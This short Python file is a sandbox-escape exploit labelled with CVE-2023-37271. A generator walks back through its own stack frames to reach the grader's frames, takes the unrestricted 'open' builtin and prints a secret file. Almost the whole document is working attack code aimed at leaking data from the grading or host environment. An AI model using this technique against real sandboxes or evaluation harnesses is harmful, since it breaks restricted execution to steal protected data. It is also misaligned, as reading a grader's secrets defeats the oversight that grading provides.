"""
goal: climb from a generator's frame to the frames of the grader (CVE-2023-37271)
effect: leak
"""

def climb():
    frame = generator.gi_frame.f_back.f_back
    while frame is not None:
        builtins = frame.f_builtins
        frame = frame.f_back
        yield builtins


generator = climb()
for builtins in generator:
    if "open" in builtins:
        print(builtins["open"](SECRET_FILE).read())
        break
